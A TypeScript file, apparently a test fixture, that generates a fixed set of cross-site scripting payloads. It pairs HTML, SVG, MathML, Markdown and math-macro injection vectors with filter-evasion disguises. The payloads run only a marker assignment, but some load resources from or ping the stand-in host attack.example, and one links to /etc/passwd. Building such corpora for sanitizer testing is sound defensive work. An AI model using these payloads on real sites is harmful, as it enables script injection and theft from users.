/** What each attack tries to do; the number tells which it was. */
const run = (id: number) => `window.attacked=${id}`;

/** HTML, Markdown and mathematics that would run what is given. */
const VECTORS: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<script src="data:text/javascript,${code}"></script>`,
  (code) => `<script type=module>${code}</script>`,
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<img src=x:x onerror=${code}>`,
  (code) => `<image src=x onerror="${code}">`,
  (code) => `<svg onload="${code}">`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><animate onbegin="${code}" attributeName=x dur=1s>`,
  (code) => `<svg><set onbegin="${code}" attributeName=x to=y>`,
  (code) => `<svg><a xlink:href="javascript:${code}"><text y=9>x</text></a></svg>`,
  (code) => `<svg><use href="data:image/svg+xml,<svg id=x onload='${code}'/>#x">`,
  (code) => `<svg><foreignObject><iframe srcdoc="<script>parent.${code}</script>">`,
  (code) => `<math><a xlink:href="javascript:${code}">x</a></math>`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror="${code}">`,
  (code) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${code}">`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<style><!--</style><img src=x onerror="${code}">-->`,
  (code) => `<style>@import "https://attack.example/${code}"</style>`,
  (code) => `<style>*{background:url("javascript:${code}")}</style>`,
  (code) =>
    `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="${code}">x</b>`,
  (code) => `<link rel=stylesheet href="data:text/css," onload="${code}" onerror="${code}">`,
  (code) => `<link rel=import href="https://attack.example/${code}">`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<iframe src="javascript:parent.${code}"></iframe>`,
  (code) => `<iframe onload="${code}"></iframe>`,
  (code) => `<frameset onload="${code}"><frame src="javascript:${code}"></frameset>`,
  (code) => `<object data="javascript:${code}"></object>`,
  (code) => `<object data="data:text/html,<script>parent.${code}</script>"></object>`,
  (code) => `<embed src="data:text/html,<script>parent.${code}</script>">`,
  (code) => `<video src=x onerror="${code}"></video>`,
  (code) => `<video><source onerror="${code}" src=x></video>`,
  (code) => `<audio src=x onerror="${code}"></audio>`,
  (code) => `<details open ontoggle="${code}">x</details>`,
  (code) => `<input autofocus onfocus="${code}">`,
  (code) => `<select autofocus onfocus="${code}"></select>`,
  (code) => `<textarea autofocus onfocus="${code}"></textarea>`,
  (code) => `<b contenteditable tabindex=0 autofocus onfocus="${code}">x</b>`,
  (code) => `<button popovertarget=x onclick="${code}">x</button>`,
  (code) => `<form action="javascript:${code}"><button>x</button></form>`,
  (code) => `<form id=f></form><button form=f formaction="javascript:${code}">x</button>`,
  (code) => `<form name=attributes><input name=nodeName onfocus="${code}" autofocus></form>`,
  (code) => `<base href="javascript:/${code}/"><a href=".">x</a>`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) =>
    `<meta http-equiv=Content-Security-Policy content="script-src *"><script>${code}</script>`,
  (code) => `<body onload="${code}" onpageshow="${code}">`,
  (code) => `<marquee onstart="${code}" loop=1>x</marquee>`,
  (code) => `<template shadowrootmode=open><img src=x onerror="${code}"></template>`,
  (code) =>
    `<dialog open><form method=dialog onformdata="${code}"><button>x</button></form></dialog>`,
  (code) => `<xss onfocus="${code}" tabindex=1 autofocus id=x>x</xss>`,
  (code) => `<a href="javascript:${code}">x</a>`,
  (code) => `<a href="data:text/html,<script>opener.${code}</script>" target=_blank>x</a>`,
  (code) => `<a href="file:///etc/passwd" onclick="${code}" ping="https://attack.example/">x</a>`,
  (code) => `[x](javascript:${code})`,
  (code) => `[x]( javascript:${code} "title")`,
  (code) => `[x](<java\tscript:${code}>)`,
  (code) => `[x](data:text/html,%3Cscript%3Eopener.${code}%3C/script%3E)`,
  (code) => `[x][y] and [y]: javascript:${code}`,
  (code) => `<javascript:${code}>`,
  (code) => `![x](x" onerror="${code})`,
  (code) => `![x](javascript:${code})`,
  (code) => `![" onerror="${code}](https://attack.example/x.png)`,
  (code) => `[![x](https://attack.example/x.png)](javascript:${code})`,
  (code) => `[^x] and [^x]: <img src=x onerror="${code}">`,
  (code) => `| <img src=x onerror="${code}"> | x |`,
  (code) => `\`<img src=x onerror="${code}">\` \`\`\`<img/src=x/onerror=${code}>`,
  (code) => `$\\href{javascript:${code}}{x}$ $\\url{javascript:${code}}$`,
  (code) => `$\\includegraphics[alt=x]{x" onerror="${code}}$`,
  (code) => `$\\htmlData{x onclick=${code} y=1}{x}$ $\\htmlId{x" onclick="${code}}{x}$`,
  (code) =>
    `$\\htmlStyle{background:url(javascript:${code})}{x}$ $\\htmlClass{x" onclick="${code}}{x}$`,
  (code) => `$\\text{<img src=x onerror="${code}">}$ \\emph{<img src=x onerror="${code}">}`,
  (code) => `[:img {:src "x" :onerror "${code}"}] {{<img src=x onerror=${code}>}} \${${code}}`,
  (code) =>
    `{"__proto__":{"innerHTML":"<img src=x onerror=${code}>"},"constructor":{"prototype":1}}`,
  (code) => `'-${code}-'";${code}//\`;${code}/*`,
];

/** What hides an attack from a careless filter, or brings it out of where it stands. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) =>
    text.replace(/(<\/?)([a-z]+)/g, (_, open: string, name: string) => open + name.toUpperCase()),
  (text) => text.replaceAll('javascript:', 'jAvA\tscRipt:').replace(/ (on[a-z]+)=/g, '/$1\n='),
  (text) => `"'></textarea></title></style></noscript></script></svg></math>${text}`,
  (text) =>
    text.replaceAll('javascript:', '&#106;avascript&colon;').replaceAll('<img', '<img\u0000'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;'),
  (text) => `> - **${text}** \u202e${text.slice(0, 9)}\u2066`,
];

/** An attack: one line, as a title is. */
export interface Attack {
  readonly id: number;
  readonly text: string;
}

/** All attacks, the same ones each time. */
export const ATTACKS: readonly Attack[] = DISGUISES.flatMap((disguise, nth) =>
  VECTORS.map((vector, index) => {
    const id = 1 + nth * VECTORS.length + index;
    return { id, text: disguise(vector(run(id))) };
  }),
);
